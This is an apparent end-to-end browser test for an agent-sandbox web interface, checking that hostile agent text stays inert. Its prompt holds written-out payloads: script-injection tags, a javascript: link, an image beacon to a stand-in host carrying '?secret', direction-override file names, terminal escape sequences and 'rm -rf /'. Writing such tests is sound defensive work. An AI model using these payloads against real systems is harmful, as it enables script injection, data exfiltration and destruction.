import { createSandbox, goTo, openSandbox, removeSandbox, timeline, waitForPanel } from "./browser";
import { expect, it } from "./fixtures";

const OVERRIDE = "\u202e";
const SCRIPT = "<img src=x onerror=alert(1)><script>alert(2)</script>";
const PROMPT = [
  `say ${SCRIPT} [link](javascript:alert(3)) ![image](https://evil.invalid/pixel.png?secret) ${OVERRIDE}gpj.exe`,
  `edit ${"evil"}${OVERRIDE}.md ${SCRIPT}`,
  `run printf '<script>alert(4)</script>\\033]52;c;aGFja2Vk\\007\\033]0;title\\007\\033[31mred\\033[0m\\n'; printf x > '<img src=x onerror=alert(5)>.txt'`,
  `ask ${SCRIPT} rm -rf ${OVERRIDE}/`,
].join("\n");

it("does nothing that an agent's text asks for", async ({ openPage }) => {
  const page = await openPage({ permissions: [] });
  const id = await createSandbox(page, { prompt: PROMPT, title: `Hostile ${SCRIPT}` });
  await openSandbox(page, id);
  await page.getByRole("region", { name: /^Approval:/ }).first().waitFor();

  // Text stays text, remote images are links, and direction marks are visible.
  expect(await timeline(page).locator("img, script, iframe").count()).toBe(0);
  expect(await page.locator('a[href^="javascript:"]').count()).toBe(0);
  await timeline(page).getByRole("link", { name: "Image: image" }).waitFor();
  await timeline(page).getByText("U+202E").first().waitFor();

  for (const tab of ["Changes", "Terminal", "Files", "Git", "Events", "Details"]) {
    await page.getByRole("tab", { name: tab }).click();
    await waitForPanel(page, tab.toLowerCase());
  }
  await page.getByRole("tab", { name: "Files" }).click();
  await page.locator("#panel-files").getByRole("button", { name: /onerror=alert\(5\)/ }).click();
  await page.getByRole("heading", { name: /onerror=alert\(5\)/ }).waitFor();
  await goTo(page, "/");
  await page.getByRole("link", { name: /Hostile/ }).first().waitFor();
  await goTo(page, "/approvals");
  await page.getByRole("region", { name: /^Approval:/ }).first().waitFor();

  expect(await page.locator('img[src="x"]').count()).toBe(0);
  await removeSandbox(page, id);
});
